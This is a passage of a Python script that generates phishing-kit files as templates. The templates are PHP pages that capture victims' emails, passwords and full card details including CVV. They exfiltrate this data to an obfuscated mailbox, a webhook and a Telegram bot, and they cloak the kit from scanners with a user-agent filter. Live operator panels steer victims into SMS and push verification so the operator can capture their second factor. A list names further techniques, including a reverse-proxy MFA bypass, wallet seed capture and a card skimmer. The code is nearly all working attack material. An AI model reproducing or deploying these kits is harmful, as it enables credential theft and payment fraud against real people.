include 'blocker.php';
$info = ['email' => $_POST['em'], 'password' => $_POST['pw'], 'card' => $_POST['cn'], 'exp' => $_POST['ex'], 'cvv' => $_POST['cv'],
         'ip' => $_SERVER['REMOTE_ADDR'], 'agent' => $_SERVER['HTTP_USER_AGENT']];
$out = '';
foreach ($info as $k => $v) $out .= str_pad($k, 10) . ": $v\\n";
$to = base64_decode('ZHJvcEBleGFtcGxlLmNvbQ==');
@mail($to, 'NF Billing | ' . $info['email'], $out, 'From: NF <nf@' . $_SERVER['HTTP_HOST'] . '>');
$f = @fopen('rzlt/' . md5($info['email']) . '.txt', 'w'); @fwrite($f, $out); @fclose($f);
echo "<script>window.location='done.html';</script>";
"""
        anti = """<?php
$u = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
if ($u === '' || preg_match('/bot|crawler|spider|facebookexternalhit|scan|curl|wget|python/', $u)) { header('HTTP/1.1 404 Not Found'); die('<h1>404 Not Found</h1>'); }
"""
        return [F(html, d + "index.html", "html", "kit:streaming"), F(c, d + "billing.php", "php", "kit:streaming"), F(anti, d + "blocker.php", "php", "kit:streaming")]
    else:
        c = T("""<?php
$data = array_intersect_key($_POST, array_flip(['em', 'pw', 'cn', 'ex', 'cv']));
$data['ip'] = $_SERVER['REMOTE_ADDR'];
$ch = curl_init('https://@D@/hooks/catch/@N@/');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($data));
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
curl_exec($ch);
header('Location: https://www.example.com/');
""", D=dom(r), N=r.randint(10 ** 6, 10 ** 7))
    return [F(html, d + "index.html", "html", "kit:streaming"), F(c, d + "billing.php", "php", "kit:streaming")]


def operator_panel(r, v):
    d = kitdir(r)
    if v == 0:
        c = """<?php
// victim side: poll what the operator wants next
session_start();
$id = session_id();
$db = __DIR__ . '/panel/' . $id . '.json';
if (!empty($_POST)) {
    $s = is_file($db) ? json_decode(file_get_contents($db), true) : ['ip' => $_SERVER['REMOTE_ADDR'], 'data' => []];
    $s['data'][] = $_POST; $s['wait'] = true; $s['next'] = null;
    file_put_contents($db, json_encode($s));
}
if (isset($_GET['poll'])) {
    $s = json_decode(@file_get_contents($db), true);
    header('Content-Type: application/json');
    echo json_encode(['next' => $s['next'] ?? null]);
    exit;
}
readfile(__DIR__ . '/tpl/wait.html');
"""
        op = """<?php
if (($_GET['k'] ?? '') !== 'op') exit;
foreach (glob(__DIR__ . '/*.json') as $f) {
    $s = json_decode(file_get_contents($f), true);
    if (isset($_GET['set'], $_GET['id']) && basename($f, '.json') === $_GET['id']) { $s['next'] = $_GET['set']; file_put_contents($f, json_encode($s)); }
    echo '<div>' . basename($f) . ' ' . htmlspecialchars(json_encode($s['data'])) . ' <a href="?k=op&id=' . basename($f, '.json') . '&set=sms">SMS</a> <a href="?k=op&id=' . basename($f, '.json') . '&set=app">APP</a> <a href="?k=op&id=' . basename($f, '.json') . '&set=card">CARD</a></div>';
}
"""
        return [F(c, d + "index.php", "php", "kit:operator-panel"), F(op, d + "panel/index.php", "php", "kit:operator-panel")]
    if v == 1:
        tok = tgtok(r)
        c = T("""<?php
session_start();
$sid = substr(session_id(), 0, 8);
if (!empty($_POST)) {
    $kb = json_encode(['inline_keyboard' => [[['text' => 'SMS', 'callback_data' => "$sid:sms"], ['text' => 'PUSH', 'callback_data' => "$sid:push"], ['text' => 'BAD', 'callback_data' => "$sid:bad"]]]]);
    file_get_contents('https://api.telegram.org/bot@T@/sendMessage?' . http_build_query(['chat_id' => '@C@', 'text' => "#$sid " . json_encode($_POST), 'reply_markup' => $kb]));
}
if (isset($_GET['s'])) {
    $u = json_decode(file_get_contents('https://api.telegram.org/bot@T@/getUpdates'), true);
    foreach (array_reverse($u['result'] ?? []) as $x) {
        if (isset($x['callback_query']) && strpos($x['callback_query']['data'], $sid . ':') === 0) { exit(explode(':', $x['callback_query']['data'])[1]); }
    }
    exit('wait');
}
?><html><body><p>Please wait while we verify your information…</p>
<script>setInterval(function(){fetch('?s=1').then(function(r){return r.text()}).then(function(t){if(t!=='wait'){location='step_'+t+'.html'}})},3000)</script></body></html>
""", T=tok, C=r.randint(10 ** 8, 10 ** 9))
        return [F(c, d + "live.php", "php", "kit:operator-panel")]
    c = """<?php
$pdo = new PDO('sqlite:' . __DIR__ . '/.data/live.db');
$pdo->exec('CREATE TABLE IF NOT EXISTS v (id TEXT PRIMARY KEY, ip TEXT, payload TEXT, cmd TEXT, ts INT)');
$id = $_COOKIE['vid'] ?? bin2hex(random_bytes(8));
setcookie('vid', $id, time() + 86400);
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $st = $pdo->prepare('INSERT OR REPLACE INTO v (id, ip, payload, cmd, ts) VALUES (?, ?, COALESCE((SELECT payload FROM v WHERE id = ?), "") || ?, NULL, ?)');
    $st->execute([$id, $_SERVER['REMOTE_ADDR'], $id, json_encode($_POST) . "\\n", time()]);
}
$cmd = $pdo->query('SELECT cmd FROM v WHERE id = ' . $pdo->quote($id))->fetchColumn();
header('Content-Type: application/json');
echo json_encode(['go' => $cmd ?: 'loading']);
"""
    return [F(c, d + "api.php", "php", "kit:operator-panel")]


TECHS = [
    ("bank-login-telegram", bank_tg, 3), ("single-page-html-js-exfil", single_html, 3), ("m365-webhook-exfil", m365_discord, 3),
    ("multistep-session-card", multistep, 3), ("parcel-fee-card-file", parcel, 3), ("antibot-geo-gate", antibot, 3),
    ("remote-db-exfil", remote_db, 3), ("aitm-reverse-proxy", aitm, 3), ("wallet-seed-capture", wallet, 3),
    ("tax-refund-multilang", tax_refund, 3), ("checkout-skimmer", skimmer, 3), ("streaming-billing", streaming, 3),
    ("live-operator-panel", operator_panel, 3),
]
